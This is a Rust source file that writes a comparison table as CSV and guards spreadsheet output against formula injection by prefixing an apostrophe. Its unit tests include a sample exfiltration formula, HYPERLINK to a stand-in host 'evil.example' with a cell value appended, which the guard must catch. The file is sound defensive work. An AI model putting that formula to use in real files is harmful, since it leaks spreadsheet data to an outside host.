//! A comparison as comma-separated values: one table of quotes, and of positions that no quote shows.

use std::io;

use csv::{IntoInnerError, QuoteStyle, Terminator, WriterBuilder};

use super::{
    Exporter,
    table::{Cell, Row},
};
use crate::{compare::Comparison, fold::extends};

/// The consumer of a CSV file.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Dialect {
    /// RFC 4180, every text exactly as it is in the bundle.
    #[default]
    Data,
    /// For spreadsheets that open it by double click: with a byte order mark, every cell in quotation marks, and an
    /// apostrophe before what they would take for a formula. They may still take a text such as `3-4` for a date and `007`
    /// for a number, which the format cannot tell them; an XLSX file does.
    Spreadsheet,
}

impl Exporter<'_> {
    /// The table, in the order on screen, with a row of names above. docs/embed.md says what each column means.
    ///
    /// # Errors
    ///
    /// None are known: it is written in memory.
    pub fn csv(&self, comparison: &Comparison, dialect: Dialect) -> io::Result<String> {
        let (mark, quotes, cell): (_, _, fn(String) -> String) = match dialect {
            Dialect::Data => ("", QuoteStyle::Necessary, |text| text),
            Dialect::Spreadsheet => ("\u{feff}", QuoteStyle::Always, guarded),
        };
        let mut table =
            WriterBuilder::new().quote_style(quotes).terminator(Terminator::CRLF).from_writer(mark.as_bytes().to_vec());
        table.write_record(Row::COLUMNS.iter().map(|(name, _)| name))?;
        for row in self.rows(comparison) {
            let texts = Row::COLUMNS.iter().map(|(_, of)| of(&row).map(Cell::into_text).unwrap_or_default());
            table.write_record(texts.map(cell))?;
        }
        let bytes = table.into_inner().map_err(IntoInnerError::into_error)?;
        String::from_utf8(bytes).map_err(io::Error::other)
    }
}

/// Makes a text safe from being run as a formula by a spreadsheet: prefixes an apostrophe if it begins with a sign that
/// formulas begin with, also in full width, also after white space or invisible characters. A tab or line break at its
/// beginning would put the rest into a cell of its own.
fn guarded(text: String) -> String {
    let is_seen = |c: char| !(c.is_whitespace() || c.is_control() || extends(c));
    let begins = text.trim_start_matches(|c| !is_seen(c)).starts_with(SIGNS);
    if begins || text.starts_with(['\t', '\r', '\n']) { format!("'{text}") } else { text }
}

const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

#[cfg(test)]
mod tests {
    use icu_properties::{CodePointMapData, props::GeneralCategory};
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_a_spreadsheet_would_run_is_behind_an_apostrophe() {
        for text in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\u{a0}=1",
            "\u{200b}=1",
            "\u{feff}@x",
            "＝1",
            "＋1",
            "－1",
            "＠x",
            "\ttext",
            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
        ] {
            assert_eq!(guarded(text.to_owned()), format!("'{text}"));
        }
        for text in ["plain", "1-1", "a,b", "say \"so\"", "two\nlines", "", "– no", "…=1"] {
            assert_eq!(guarded(text.to_owned()), text);
        }
    }

    proptest! {
        #[test]
        fn a_sign_is_guarded_after_whatever_is_not_seen(unseen in proptest::collection::vec(any::<char>(), 0..40),
            sign in proptest::sample::select(&SIGNS[..]), rest in "\\PC*") {
            let is_format = |c| CodePointMapData::<GeneralCategory>::new().get(c) == GeneralCategory::Format;
            let unseen: String = unseen.into_iter().filter(|&c| c.is_whitespace() || c.is_control() || is_format(c)).collect();
            let text = format!("{unseen}{sign}{rest}");
            prop_assert!(guarded(text.clone()) == format!("'{text}"), "{:?}", text);
        }

        #[test]
        fn a_text_is_kept_whole(text in "\\PC*") {
            let guarded = guarded(text.clone());
            prop_assert_eq!(guarded.strip_prefix('\'').unwrap_or(&guarded), text.strip_prefix('\'').unwrap_or(&text));
        }
    }

    #[test]
    fn every_format_character_is_passed_over() {
        let is_format = |c: &char| CodePointMapData::<GeneralCategory>::new().get(*c) == GeneralCategory::Format;
        let missed: Vec<char> =
            ('\0'..=char::MAX).filter(is_format).filter(|c| !guarded(format!("{c}=1")).starts_with('\'')).collect();
        assert_eq!(missed, [' '; 0]);
    }
}
